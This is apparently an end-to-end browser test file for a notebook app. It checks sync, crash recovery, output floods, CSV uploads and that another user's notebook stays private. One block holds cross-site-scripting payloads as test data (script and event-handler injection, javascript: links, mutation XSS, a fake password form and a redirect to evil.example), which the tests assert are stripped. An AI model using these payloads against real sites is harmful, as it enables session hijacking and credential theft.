/** What must not break a notebook, along the whole path: hostile cells, cut networks, killed servers, odd files, in a real browser against the real command. */
import {once} from "node:events";
import {request, type IncomingMessage} from "node:http";
import {Readable} from "node:stream";
import {pipeline} from "node:stream/promises";
import type {Browser, BrowserContext, Page} from "playwright-core";
import {afterAll, afterEach, beforeAll, describe, expect, it} from "vitest";
import {launchBrowser} from "./browser.ts";
import {cellAt, openNewNotebook, pressAll, signUp, sourceOf, write} from "./page.ts";
import {RectoServer} from "./recto-server.ts";

/** Long enough for a machine that does other things as well. */
const soon = {timeout: 20_000};

const server = new RectoServer("survival");
let browser: Browser;
let context: BrowserContext;
let page: Page;
/** Every address outside the server that a page asked for. */
const foreignRequests: string[] = [];
const pageErrors: string[] = [];

function watch(watched: Page): Page {
  watched.setDefaultTimeout(soon.timeout);
  watched.on("request", (asked) => {
    const url = asked.url();
    if (!url.startsWith(server.address) && !/^(data|blob):/.test(url)) foreignRequests.push(url);
  });
  watched.on("pageerror", (error) => pageErrors.push(error.stack ?? error.message));
  return watched;
}

beforeAll(async () => {
  [browser] = await Promise.all([launchBrowser(), server.start()]);
  context = await browser.newContext({baseURL: server.address, viewport: {width: 1440, height: 900}, reducedMotion: "reduce"});
  page = watch(await context.newPage());
  await signUp(page, server.address, "survivor@example.org", "nothing is lost");
}, 180_000);

afterAll(async () => {
  await browser?.close();
  await server.close();
});

/** What the pages looked like when a test failed, in the folder that RECTO_SCREENSHOTS names. */
afterEach(async ({task}) => {
  const to = process.env["RECTO_SCREENSHOTS"];
  if (to === undefined || task.result?.state !== "fail") return;
  const pages = browser.contexts().flatMap((opened) => opened.pages());
  for (const [index, opened] of pages.entries()) await opened.screenshot({path: `${to}/survival-${task.name.slice(0, 40).replace(/\W+/g, "-")}-${index}.png`});
});

async function newNotebook(): Promise<string> {
  await page.goto("/");
  return openNewNotebook(page);
}

const shown = (index: number, text: string | RegExp) => cellAt(page, index).locator(".cell-output").getByText(text).first().waitFor();
const isSaved = (on: Page = page) => on.locator(".saved").getByText("saved", {exact: true}).waitFor();
const isRunning = (index: number) => page.locator('[data-status="running"]').and(cellAt(page, index)).waitFor();
/** Answers at once when the page is not frozen. */
const answersWithin = async (milliseconds: number) => {
  const startedAt = performance.now();
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
  expect(performance.now() - startedAt).toBeLessThan(milliseconds);
};

describe("two tabs that write into the same cell at once", () => {
  it("come to the same text, with every letter of both, and it is the stored one", async () => {
    await newNotebook();
    await cellAt(page, 0).locator(".cm-content").click();
    await page.keyboard.insertText("// start\n// end");
    await isSaved();
    const other = watch(await context.newPage());
    await other.goto(page.url());
    await other.locator(".cm-content").click();
    await page.keyboard.press("Control+Home");
    await other.keyboard.press("Control+End");
    const first = "abcdefghijklmnopqrstuvwxyz".repeat(3);
    const second = "0123456789".repeat(8);
    await Promise.all([page.keyboard.type(first), other.keyboard.type(second)]);
    await Promise.all([isSaved(), isSaved(other)]);
    const expected = `${first}// start\n// end${second}`;
    await expect.poll(() => sourceOf(page, 0).innerText(), soon).toBe(expected);
    await expect.poll(() => sourceOf(other, 0).innerText(), soon).toBe(expected);
    await other.reload();
    await expect.poll(() => sourceOf(other, 0).innerText(), soon).toBe(expected);
    await other.close();
  });
});

describe("while a person types and a cell runs", () => {
  const slow = "await new Promise((resolve) => setTimeout(resolve, 2500));\ndisplay(`slow ${kept}`)";

  it("a network that goes and comes back loses no letter, and the run's result is there", async () => {
    await newNotebook();
    await write(page, 0, "const kept = 41");
    await write(page, 1, slow);
    await isRunning(1);
    await page.keyboard.type("kept +");
    await context.setOffline(true);
    await page.keyboard.type(" 1");
    await page.locator(".saved").getByText("what you typed is kept here").waitFor();
    await context.setOffline(false);
    await isSaved();
    await shown(1, "slow 41");
    await page.keyboard.press("Control+Enter");
    await shown(2, "42");
  });

  it("a server that is killed and started again loses nothing acknowledged, is sent the rest, and runs again", async () => {
    await newNotebook();
    await write(page, 0, "const kept = 41");
    await write(page, 1, slow);
    await page.keyboard.type("kept +");
    await isSaved();
    await isRunning(1);
    await server.kill();
    await page.locator(".saved.cut-off").waitFor();
    await page.keyboard.type(" 1");
    await page.locator(".saved").getByText("what you typed is kept here").waitFor();
    await server.start();
    await isSaved();
    await shown(1, "slow 41");
    await page.keyboard.press("Control+Enter");
    await shown(2, "42");
    await page.reload();
    await expect.poll(() => sourceOf(page, 2).innerText(), soon).toBe("kept + 1");
    await shown(1, "slow 41");
    await shown(2, "42");
  });

  it("what is typed at once after a cell was run is in the new cell, not in the one that runs", async () => {
    await newNotebook();
    for (const source of ["const kept = 41", "1", "2", "3"]) {
      await page.keyboard.insertText(source);
      await page.keyboard.press("Shift+Enter");
    }
    await expect.poll(() => page.locator(".code-holder .cm-line, .code-holder pre").allInnerTexts(), soon).toEqual(expect.arrayContaining(["const kept = 41", "1", "2", "3"]));
    expect(await page.locator("[data-cell]").count()).toBe(5);
  });

  it("a page that is loaded again shows the run that goes on, and then its result", async () => {
    await newNotebook();
    await write(page, 0, "const kept = 41");
    await write(page, 1, slow);
    await isRunning(1);
    await page.reload();
    await isRunning(1);
    await shown(1, "slow 41");
  });
});

describe("a cell that never ends", () => {
  it("is interrupted by its button within a second or so, and the other cells keep their values", async () => {
    await newNotebook();
    await write(page, 0, "const kept = 41");
    await write(page, 1, "while (true) {}");
    await isRunning(1);
    const startedAt = performance.now();
    await cellAt(page, 1).getByRole("button", {name: "Interrupt"}).first().click();
    await page.locator('[data-cell]:not([data-status="running"])').and(cellAt(page, 1)).waitFor();
    expect(performance.now() - startedAt).toBeLessThan(3000);
    await write(page, 2, "kept + 1");
    await shown(2, "42");
    expect(await cellAt(page, 0).getAttribute("data-status")).toBe("done");
  });
});

const markup = [
  "<h2 onclick=\"window.hacked = 'onclick'\">Heading</h2>",
  "<script>window.hacked = 'script'</script><script src='https://evil.example/a.js'></script>",
  "<img src='https://evil.example/a.png' onerror=\"window.hacked = 'onerror'\"><img src=x onerror=\"window.hacked = 'onerror'\">",
  "<svg onload=\"window.hacked = 'onload'\"><a xlink:href=\"javascript:window.hacked = 'svg'\"><text y='20'>svg link</text></a><use href='https://evil.example/a.svg#a'/><image href='https://evil.example/b.png'/></svg>",
  "<a href=\"javascript:window.hacked = 'link'\">a link</a> <a href=\"java&#10;script:window.hacked = 'split'\">a split link</a> <a href=\"data:text/html,<script>opener.hacked = 1</script>\">a data link</a>",
  "<iframe src='https://evil.example/'></iframe><iframe srcdoc=\"<script>parent.hacked = 'srcdoc'</script>\"></iframe><object data='https://evil.example/o'></object><embed src='https://evil.example/e'>",
  "<form action='https://evil.example/'><input name='password'><button>Sign in</button></form><base href='https://evil.example/'><meta http-equiv='refresh' content='0;url=https://evil.example/'>",
  "<style>body {display: none} @import 'https://evil.example/a.css';</style><link rel='stylesheet' href='https://evil.example/b.css'><p style=\"position: fixed; inset: 0; background: url(https://evil.example/c.png)\">styled</p>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hacked=1&gt;'></table></mtext></math>",
  "<video src='https://evil.example/v' autoplay></video><p>The end</p>",
].join("\n\n");

describe("markup with scripts", () => {
  it.each([
    ["of an HTML cell", "HTML", markup],
    ["of a Markdown cell", "Markdown", `${markup}\n\n[a link in Markdown](javascript:window.hacked='markdown') ![](https://evil.example/m.png)`],
    ["of html`…` in TypeScript", "TypeScript", `display(html\`${markup}\`)`],
  ])("%s runs nothing, asks nobody, restyles nothing, and its words are shown", async (_, kind, source) => {
    await newNotebook();
    await page.getByRole("group", {name: "Add a cell at the end"}).getByRole("button", {name: kind, exact: true}).click();
    await write(page, 1, source);
    const output = cellAt(page, 1).locator(".cell-output");
    await output.getByText("The end").waitFor();
    expect(await output.locator("script, iframe, object, embed, form, input, style, link, meta, base, video, [style], [onclick], [onerror], [onload]").count()).toBe(0);
    for (const words of ["Heading", "a link", "a split link", "styled"]) await output.getByText(words, {exact: true}).first().click({force: true});
    await answersWithin(2000);
    expect(await page.evaluate(() => (globalThis as {hacked?: unknown}).hacked)).toBeUndefined();
    expect(context.pages().length).toBe(1);
    expect(page.url()).toContain("/notebooks/");
  });

  it("of a chart with an address for its data, an image mark and links loads nothing and leads nowhere", async () => {
    await newNotebook();
    await write(page, 0, [
      "display(vegaLite({data: {url: 'https://evil.example/data.csv'}, mark: 'point', encoding: {x: {field: 'a'}}}));",
      "display(vegaLite({data: {values: [{a: 1, u: 'https://evil.example/i.png', l: 'javascript:window.hacked=1'}]}, usermeta: {embedOptions: {loader: {http: {}}}},",
      "  layer: [{mark: {type: 'image', width: 40, height: 40}, encoding: {x: {field: 'a'}, url: {field: 'u'}}}, {mark: {type: 'point', size: 4000, href: 'https://evil.example/h'}, encoding: {x: {field: 'a'}, href: {field: 'l'}}}]}))",
    ].join("\n"));
    await expect.poll(() => cellAt(page, 0).locator(".cell-output .display").count(), soon).toBe(2);
    await cellAt(page, 0).locator(".cell-output").locator("svg.marks, canvas.marks").first().waitFor();
    expect(await cellAt(page, 0).locator('.cell-output a[href], .cell-output [href*="evil"]').count()).toBe(0);
    await cellAt(page, 0).locator(".cut").getByText("addresses were left out").first().waitFor();
    expect(await page.evaluate(() => (globalThis as {hacked?: unknown}).hacked)).toBeUndefined();
  });

  it("asked nothing of another site all along", () => expect(foreignRequests).toEqual([]));
});

describe("floods", () => {
  it("of 100 MB of output and of a million console lines do not freeze the page, and say what was left out", async () => {
    await newNotebook();
    await write(page, 0, 'display("x".repeat(100_000_000))');
    await cellAt(page, 0).locator(".cut").waitFor();
    await answersWithin(1000);
    await write(page, 1, "for (let line = 0; line < 1_000_000; line++) console.log(line);\ndisplay('counted')");
    await shown(1, "counted");
    await cellAt(page, 1).locator(".console-toggle").getByText("1,000,000 lines").waitFor();
    await cellAt(page, 1).locator(".console-toggle").click();
    await shown(1, /more were not kept/);
    await answersWithin(1000);
  });

  it("of a table of 10,000 columns and a text of 20,000 lines pasted do not freeze the page", async () => {
    await newNotebook();
    await write(page, 0, "display(aq.table(Object.fromEntries(Array.from({length: 10_000}, (_, column) => [`c${column}`, [1, 2]]))))");
    await cellAt(page, 0).locator(".table-view").waitFor();
    await answersWithin(2000);
    await cellAt(page, 1).locator(".cm-content").click();
    await paste(Array.from({length: 20_000}, (_, line) => `// line ${line}`).join("\n"));
    await isSaved();
    await page.keyboard.press("Control+Enter");
    await page.locator('[data-status="done"]').and(cellAt(page, 1)).waitFor();
    await answersWithin(2000);
  });

  it("of pasted text beyond what a cell may hold are refused in words, once, and the cell stays as it was", async () => {
    await newNotebook();
    await cellAt(page, 0).locator(".cm-content").click();
    await page.keyboard.insertText("const kept = 41");
    await paste("x".repeat(1_200_000));
    await page.getByText(/1,000,000 characters/).first().waitFor();
    await isSaved();
    await page.keyboard.press("Control+Enter");
    await page.locator('[data-status="done"]').and(cellAt(page, 0)).waitFor();
    await expect.poll(() => sourceOf(page, 0).innerText(), soon).toBe("const kept = 41");
  });

  it("of the longest text in letters of three bytes are stored", async () => {
    await newNotebook();
    await cellAt(page, 0).locator(".cm-content").click();
    await paste(`// ${"日本".repeat(499_000)}`);
    await isSaved();
    await page.reload();
    await cellAt(page, 0).getByText("日本").first().waitFor();
  });
});

/** Pastes a text where the cursor is, as the clipboard does. */
async function paste(text: string): Promise<void> {
  await page.evaluate((pasted) => {
    const clipboardData = new DataTransfer();
    clipboardData.setData("text/plain", pasted);
    document.activeElement!.dispatchEvent(new ClipboardEvent("paste", {clipboardData, bubbles: true, cancelable: true}));
  }, text);
}

describe("an upload", () => {
  const wide = Array.from({length: 10_000}, (_, column) => `c${column}`).join(",");
  it.each<[string, string, Buffer, RegExp, string | RegExp]>([
    ["of 0 bytes", "empty.csv", Buffer.alloc(0), /^0 (rows|lines)/, /empty/i],
    ["of one column", "one.csv", Buffer.from("n\n1\n2\n3\n"), /^3 rows, 1 column$/, "n"],
    ["of ragged rows", "ragged.csv", Buffer.from("a,b,c\n1,2,3\n4,5\n6,7,8,9\n1,2,3\n"), /2 rows could not be read/, /line 3/],
    ["of a quote never closed", "quote.csv", Buffer.from('a,b\n1,"two\n3,4\n5,6\n'), /could not be read/, /quote/i],
    ["of UTF-16", "utf16.csv", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("näme,größe\nÅse,1\nZoë,2\n", "utf16le")]), /^2 rows, 2 columns$/, "Zoë"],
    ["of 10,000 columns", "wide.csv", Buffer.from(`${wide}\n${wide.replaceAll("c", "")}\n`), /^1 row, 10,000 columns$/, "c0"],
  ])("%s says what was found, and its page shows it", async (_, name, buffer, summary, detail) => {
    await page.goto("/");
    await page.locator('input[type="file"]').first().setInputFiles({name, mimeType: "text/csv", buffer});
    const line = page.locator(".upload").filter({hasText: name});
    await line.getByText(summary).waitFor();
    await line.getByRole("link", {name: "See what was found"}).click();
    await page.waitForURL(/\/data\//);
    await page.locator("main.data-page").getByText(detail).first().waitFor();
    await answersWithin(3000);
  });

  it("of a NUL byte is refused with the reason", async () => {
    await page.goto("/");
    await page.locator('input[type="file"]').first().setInputFiles({name: "nul.csv", mimeType: "text/csv", buffer: Buffer.from("a,b\n1,x\0y\n2,z\n")});
    await page.locator(".upload.failed").getByText("it looks like a binary file").waitFor();
  });

  const mebibyte = 2 ** 20;
  const block = Buffer.from(Array.from({length: 2 ** 15}, (_, row) => `${String(row).padStart(7, "0")},${String((row * 7919) % 100_000).padStart(7, "0")},word-of-letters\n`).join(""));

  /** Sends a CSV of at least so many bytes, made on the fly, with the browser's cookie; gives the status and the answer. */
  async function send(name: string, sizeBytes: number): Promise<{status: number; body: {rows?: number; detail?: string}}> {
    const cookie = (await context.cookies()).map((kept) => `${kept.name}=${kept.value}`).join("; ");
    const sent = request(`${server.address}/api/data-sets?name=${name}&file=${name}.csv`, {
      method: "POST",
      headers: {cookie, origin: server.address, "content-type": "application/octet-stream"},
    });
    const answered = once(sent, "response") as Promise<[IncomingMessage]>;
    const blocks = function* () {
      yield "first,second,third\n";
      for (let size = 0; size < sizeBytes; size += block.length) yield block;
    };
    await pipeline(Readable.from(blocks()), sent);
    const [response] = await answered;
    let body = "";
    for await (const chunk of response) body += String(chunk);
    return {status: response.statusCode ?? 0, body: JSON.parse(body) as {rows?: number; detail?: string}};
  }

  it("of 200 MB is taken, and a cell counts its rows or says which limit it meets", async () => {
    const {status, body} = await send("large", 200 * mebibyte);
    expect(status).toBe(201);
    expect(body.rows).toBe(Math.ceil((200 * mebibyte) / block.length) * 2 ** 15);
    await newNotebook();
    await write(page, 0, 'data("large").numRows()');
    const result = cellAt(page, 0).locator(".display, .cell-error");
    await result.waitFor({timeout: 40_000});
    const output = await result.innerText();
    expect(output.includes(String(body.rows)) || /memory|MB|large|limit/.test(output), output).toBe(true);
    await write(page, 1, "1 + 1");
    await shown(1, "2");
  });

  it("beyond the limit is refused with the limit in words", async () => {
    const {status, body} = await send("too-large", 251 * mebibyte);
    expect(status).toBe(413);
    expect(body.detail).toContain("larger than 250 MB");
  });
});

describe("another user's notebook", () => {
  it("opened by its address is not found, and its text is nowhere on the page", async () => {
    const address = await newNotebook();
    await write(page, 0, "const secret = 'the owner alone'");
    const stranger = await browser.newContext({baseURL: server.address});
    const strangersPage = watch(await stranger.newPage());
    await signUp(strangersPage, server.address, "stranger@example.org", "somebody else entirely");
    await strangersPage.goto(address);
    await strangersPage.getByRole("heading", {name: "There is no such notebook"}).waitFor();
    expect(await strangersPage.content()).not.toContain("the owner alone");
    await stranger.close();
  });
});

describe("without the mouse", () => {
  it("cells are added, written, run, moved, deleted and brought back", async () => {
    await newNotebook();
    /** Escape closes completions first, where they are open. */
    const leaveEditor = () =>
      expect.poll(async () => page.keyboard.press("Escape").then(() => page.locator(".cm-editor.cm-focused").count()), soon).toBe(0);
    const sources = () => page.locator(".code-holder").allInnerTexts();
    await page.keyboard.insertText("const first = 20");
    await page.keyboard.press("Shift+Enter");
    await page.locator(".cm-editor.cm-focused").and(cellAt(page, 1).locator(".cm-editor")).waitFor();
    await page.keyboard.insertText("first + 22");
    await page.keyboard.press("Control+Enter");
    await shown(1, "42");
    await leaveEditor();
    await page.keyboard.press("Alt+ArrowUp");
    await expect.poll(sources, soon).toEqual(["first + 22", "const first = 20"]);
    await pressAll(page, ["ArrowDown", "d", "d"]);
    await expect.poll(sources, soon).toEqual(["first + 22"]);
    await page.locator('[data-status="blocked"]').waitFor();
    await page.keyboard.press("z");
    await expect.poll(sources, soon).toEqual(["first + 22", "const first = 20"]);
    await shown(0, "42");
    await page.keyboard.press("z");
    await expect.poll(sources, soon).toEqual(["const first = 20", "first + 22"]);
    await page.keyboard.press("b");
    await page.locator(".cm-editor.cm-focused").waitFor();
    await leaveEditor();
    await pressAll(page, ["m", "Enter"]);
    await page.locator(".cell.kind-markdown .cm-editor.cm-focused").waitFor();
    await page.keyboard.insertText("# A heading");
    await leaveEditor();
    await page.getByRole("heading", {name: "A heading"}).waitFor();
    await page.keyboard.press("Control+k");
    await page.getByRole("dialog").waitFor();
    await page.keyboard.insertText("Go home");
    await page.keyboard.press("Enter");
    await page.getByRole("button", {name: "New notebook"}).waitFor();
  });
});

it("no page complained all along", () => expect(pageErrors).toEqual([]));
